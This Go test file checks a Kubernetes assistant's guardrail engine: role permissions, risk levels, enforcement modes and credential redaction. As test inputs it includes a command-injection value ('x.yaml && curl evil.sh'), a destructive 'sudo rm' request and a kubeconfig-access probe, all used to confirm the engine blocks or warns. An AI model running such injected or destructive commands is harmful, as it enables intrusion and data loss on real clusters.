package guardrail

import (
	"strings"
	"testing"

	"github.com/kranthiB/kubepilot/pkg/models"
)

func mustEngine(t *testing.T, cfg Config) *Engine {
	t.Helper()
	e, err := NewEngine(cfg)
	if err != nil {
		t.Fatalf("NewEngine failed: %v", err)
	}
	return e
}

func levelConfig(level models.EnforcementLevel) Config {
	cfg := DefaultConfig()
	cfg.EnforcementLevel = level
	return cfg
}

func TestNewEngine_BadRegex(t *testing.T) {
	cfg := DefaultConfig()
	cfg.ProhibitedPatterns["security"] = append(cfg.ProhibitedPatterns["security"], "(unclosed")
	if _, err := NewEngine(cfg); err == nil {
		t.Fatal("expected error for invalid regex")
	}
}

func TestEvaluate_Disabled(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Enabled = false
	e := mustEngine(t, cfg)

	d := e.Evaluate(&models.Task{
		Operation:    "delete",
		ResourceType: "namespaces",
		Namespace:    "kube-system",
	}, "viewer")
	if d.Verdict != models.VerdictAllow {
		t.Errorf("disabled engine should allow everything, got %s", d.Verdict)
	}
}

func TestEvaluate_PermissionDenialBlocksAtEveryLevel(t *testing.T) {
	for _, level := range []models.EnforcementLevel{models.EnforcePassive, models.EnforceWarning, models.EnforceBlock} {
		e := mustEngine(t, levelConfig(level))
		d := e.Evaluate(&models.Task{
			Operation:    "delete",
			ResourceType: "deployments",
			ResourceName: "web",
			Namespace:    "default",
		}, "viewer")
		if d.Verdict != models.VerdictBlock {
			t.Errorf("level %s: viewer delete should block, got %s", level, d.Verdict)
		}
	}
}

func TestEvaluate_UnknownRoleBlocked(t *testing.T) {
	e := mustEngine(t, levelConfig(models.EnforceWarning))
	d := e.Evaluate(&models.Task{Operation: "get", ResourceType: "pods"}, "intruder")
	if d.Verdict != models.VerdictBlock {
		t.Errorf("unknown role should block, got %s", d.Verdict)
	}
}

func TestEvaluate_ViewerReadAllowed(t *testing.T) {
	e := mustEngine(t, levelConfig(models.EnforceBlock))
	d := e.Evaluate(&models.Task{
		Operation:    "get",
		ResourceType: "pods",
		Namespace:    "default",
	}, "viewer")
	if d.Verdict != models.VerdictAllow {
		t.Errorf("viewer get should be allowed, got %s (%v)", d.Verdict, d.Reasons)
	}
	if d.Risk != models.RiskLow {
		t.Errorf("expected low risk, got %s", d.Risk)
	}
}

func TestEvaluate_ProtectedNamespaceHighRisk(t *testing.T) {
	e := mustEngine(t, levelConfig(models.EnforceWarning))
	d := e.Evaluate(&models.Task{
		Operation:    "get",
		ResourceType: "pods",
		ResourceName: "coredns-abc",
		Namespace:    "kube-system",
	}, "viewer")
	if d.Risk != models.RiskHigh {
		t.Errorf("protected namespace should be high risk, got %s", d.Risk)
	}
	// Warning level: proceed with a warning, not a block.
	if d.Verdict != models.VerdictWarn {
		t.Errorf("expected warn under warning level, got %s", d.Verdict)
	}
}

func TestEvaluate_HighRiskBlockedUnderBlockLevel(t *testing.T) {
	e := mustEngine(t, levelConfig(models.EnforceBlock))
	d := e.Evaluate(&models.Task{
		Operation:    "drain",
		ResourceType: "nodes",
		ResourceName: "worker-1",
	}, "admin")
	if d.Verdict != models.VerdictBlock {
		t.Errorf("high-risk op under block level should block, got %s", d.Verdict)
	}
	if d.Risk != models.RiskHigh {
		t.Errorf("expected high risk, got %s", d.Risk)
	}
	if len(d.Mitigations) == 0 {
		t.Error("drain should carry mitigation advice")
	}
}

func TestEvaluate_PassiveNeverBlocksOnRisk(t *testing.T) {
	e := mustEngine(t, levelConfig(models.EnforcePassive))
	d := e.Evaluate(&models.Task{
		Operation:    "drain",
		ResourceType: "nodes",
		ResourceName: "worker-1",
	}, "admin")
	if d.Verdict != models.VerdictAllow {
		t.Errorf("passive level should only record findings, got %s", d.Verdict)
	}
	if len(d.Reasons) == 0 {
		t.Error("passive level should still record reasons")
	}
}

func TestEvaluate_CriticalResourceName(t *testing.T) {
	e := mustEngine(t, levelConfig(models.EnforceWarning))
	d := e.Evaluate(&models.Task{
		Operation:    "scale",
		ResourceType: "deployments",
		ResourceName: "ingress-nginx",
		Namespace:    "default",
	}, "editor")
	if d.Risk != models.RiskHigh {
		t.Errorf("critical name should elevate to high risk, got %s", d.Risk)
	}
}

func TestEvaluate_ProfiledOpUnlistedTypeMediumRisk(t *testing.T) {
	e := mustEngine(t, levelConfig(models.EnforceWarning))
	d := e.Evaluate(&models.Task{
		Operation:    "delete",
		ResourceType: "configmaps",
		ResourceName: "app-config",
		Namespace:    "default",
	}, "admin")
	if d.Risk != models.RiskMedium {
		t.Errorf("profiled op with unlisted type should be medium, got %s", d.Risk)
	}
}

func TestEvaluate_ProhibitedInputBlocksUnderBlockLevel(t *testing.T) {
	task := &models.Task{
		Description:  "run sudo rm on the node",
		Operation:    "get",
		ResourceType: "pods",
		Namespace:    "default",
	}

	warn := mustEngine(t, levelConfig(models.EnforceWarning)).Evaluate(task, "viewer")
	if warn.Verdict != models.VerdictWarn {
		t.Errorf("security pattern under warning should warn, got %s", warn.Verdict)
	}

	block := mustEngine(t, levelConfig(models.EnforceBlock)).Evaluate(task, "viewer")
	if block.Verdict != models.VerdictBlock {
		t.Errorf("security pattern under block should block, got %s", block.Verdict)
	}
}

func TestEvaluate_NonEnforceableGroupOnlyWarns(t *testing.T) {
	e := mustEngine(t, levelConfig(models.EnforceBlock))
	d := e.Evaluate(&models.Task{
		Description:  "inspect the kubeconfig mount",
		Operation:    "get",
		ResourceType: "pods",
		Namespace:    "default",
	}, "viewer")
	// credential_disclosure is not an enforceable group.
	if d.Verdict != models.VerdictWarn {
		t.Errorf("non-enforceable group should warn even under block, got %s", d.Verdict)
	}
}

func TestEvaluate_ParamsScanned(t *testing.T) {
	e := mustEngine(t, levelConfig(models.EnforceBlock))
	d := e.Evaluate(&models.Task{
		Description:  "apply manifest",
		Operation:    "apply",
		ResourceType: "deployments",
		Namespace:    "default",
		Params:       map[string]string{"file": "x.yaml && curl evil.sh"},
	}, "editor")
	if d.Verdict != models.VerdictBlock {
		t.Errorf("prohibited pattern in params should block, got %s", d.Verdict)
	}
}

func TestEvaluate_Idempotent(t *testing.T) {
	e := mustEngine(t, levelConfig(models.EnforceBlock))
	task := &models.Task{
		Operation:    "delete",
		ResourceType: "nodes",
		ResourceName: "worker-1",
	}
	first := e.Evaluate(task, "admin")
	second := e.Evaluate(task, "admin")
	if first.Verdict != second.Verdict || first.Risk != second.Risk {
		t.Errorf("evaluation not idempotent: %+v vs %+v", first, second)
	}
	if len(first.Reasons) != len(second.Reasons) {
		t.Errorf("reason count differs between evaluations: %d vs %d", len(first.Reasons), len(second.Reasons))
	}
}

func TestFilterOutput_RedactsCredentials(t *testing.T) {
	e := mustEngine(t, DefaultConfig())
	out, matched := e.FilterOutput("connection ok\npassword: hunter2\ndone")
	if strings.Contains(out, "hunter2") {
		t.Errorf("credential not redacted: %q", out)
	}
	if len(matched) != 1 || matched[0] != "credentials" {
		t.Errorf("expected credentials category, got %v", matched)
	}
}

func TestFilterOutput_CleanPassthrough(t *testing.T) {
	e := mustEngine(t, DefaultConfig())
	in := "deployment.apps/web scaled"
	out, matched := e.FilterOutput(in)
	if out != in {
		t.Errorf("clean output changed: %q", out)
	}
	if matched != nil {
		t.Errorf("expected no matches, got %v", matched)
	}
}

func TestFilterOutput_DisabledPassthrough(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Enabled = false
	e := mustEngine(t, cfg)
	in := "password: hunter2"
	out, matched := e.FilterOutput(in)
	if out != in || matched != nil {
		t.Errorf("disabled engine should not filter, got %q %v", out, matched)
	}
}
